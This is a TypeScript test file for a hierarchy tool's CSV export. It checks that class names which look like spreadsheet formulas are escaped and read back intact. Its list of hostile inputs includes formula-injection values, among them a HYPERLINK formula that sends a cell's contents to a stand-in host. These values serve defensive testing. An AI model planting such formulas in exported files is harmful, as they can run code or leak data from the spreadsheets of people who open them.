import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { DataError } from '../../../../web/engine/base/error.ts';
import { APOSTROPHES, readerOfCells, spreadsheetText } from '../../../../web/engine/base/spreadsheet-cells.ts';
import { readClasses } from '../../../../web/engine/data/dataset/classes.ts';
import { parseRecords } from '../../../../web/engine/data/formats/text/parse.ts';
import { readDelimited } from '../../../../web/engine/data/formats/text/read.ts';
import { clustersCsv } from '../../../../web/engine/hierarchy/analysis/clusters-csv.ts';
import { csvField } from '../../../../web/engine/hierarchy/csv.ts';
import { readParents, writeParents } from '../../../../web/engine/hierarchy/parents.ts';
import { asComments } from '../../../../web/page/app/export/export-writers.ts';
import { caterpillar } from '../../../support/planted-tree.ts';
import { sourceOf } from './write.ts';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '=HYPERLINK("http://x.test?"&A1,"click")',
  'plain,=1+1',
  'plain;=1+1',
];
const PLAIN = ['shark', "rock 'n' roll", '-1.5', '+3', '1e-5', 'a=b', "'quoted'", 'x-ray', ''];

/** The reader of cells of a file that this program wrote. */
const textOfCell = readerOfCells(`${APOSTROPHES}\n`);

/** The cells of a line for a spreadsheet program, parted at commas, or at semicolons. */
const cellsOf = (csv: string): string[] => parseRecords(csv, ',').rows.flat();

/** The classes of a table that is opened. */
async function classesOf(text: string) {
  const source = sourceOf('clusters.csv', text);
  const [member] = await readDelimited(source, 'csv');
  if (!member || member.found instanceof DataError) throw new Error('nothing was read');
  return readClasses(member.found.content, source.name);
}

describe('names of classes that look like formulas', () => {
  test.each(HOSTILE.map((name) => [name]))(
    '%j is text in a spreadsheet, and the same name when it is read again',
    (name) => {
      for (const cell of cellsOf(`${csvField(name)},1\n`)) expect(cell).not.toMatch(/^\s*["]?\s*[=+\-@＝]|^[\t\r\n]/);
      expect(textOfCell(cellsOf(`${csvField(name)}\n`)[0] ?? '')).toBe(name);
    },
  );

  test.each(PLAIN.map((name) => [name]))('%j stays as it is', (name) => {
    expect(spreadsheetText(name)).toBe(name);
    expect(textOfCell(name)).toBe(name);
  });

  test('any text comes back', () => {
    const text = fc.oneof(
      fc.string({ unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code)) }),
      fc.array(fc.constantFrom("'", '"', '=', '+', '-', '@', '\t', '\r', '1', 'a', ' ')).map((all) => all.join('')),
    );
    fc.assert(fc.property(text, (name) => textOfCell(spreadsheetText(name)) === name));
  });

  test('a tree as child,parent keeps them', () => {
    const classes = HOSTILE;
    const written = writeParents({ hierarchy: caterpillar(classes.length - 1), classes });
    for (const cell of cellsOf(written)) expect(cell).not.toMatch(/^["\s]*[=+\-@＝]/);
    expect(readParents(written).classes.toSorted()).toEqual(classes.toSorted());
  });

  const rows = [{ classes: [0, 2] }, { classes: [1] }];
  const clusters = clustersCsv({ rows, names: ['@two', 'one'] }, ['=1+1', '-2+3', 'oak']);
  const comments = asComments(['Logitree 0.1.0: L2H', 'options: score=sum']);
  const saved = (comments + clusters).replaceAll(',', ';').replaceAll(/^#.*$/gm, '"$&";;');

  test.each([
    ['as it was written', comments + clusters],
    ['saved again by a spreadsheet program', saved],
  ])('a table of clusters, opened as classes, gives them their names: %s', async (_, text) => {
    const found = await classesOf(text);
    expect(found.names).toEqual(['=1+1', 'oak', '-2+3']);
    expect(found.groupings).toContainEqual({ name: 'name', values: ['@two', '@two', 'one'] });
  });

  test('an apostrophe that somebody wrote into a table of classes or a tree is part of the name', async () => {
    expect((await classesOf("index,class,group\n0,'=q,a\n1,oak,a\n2,elm,b\n")).names).toEqual(["'=q", 'oak', 'elm']);
    const tree = readParents("child,parent\n'=q,top\noak,top\ntop,\n");
    expect(tree.classes.toSorted()).toEqual(["'=q", 'oak']);
  });

  test('a file name in the comments above a table is no formula either', () => {
    expect(asComments(['labels: a,=1+1.npy', 'score=sum, empty=skip'])).toBe(
      "# labels: a,'=1+1.npy\n# score=sum, empty=skip\n",
    );
  });
});
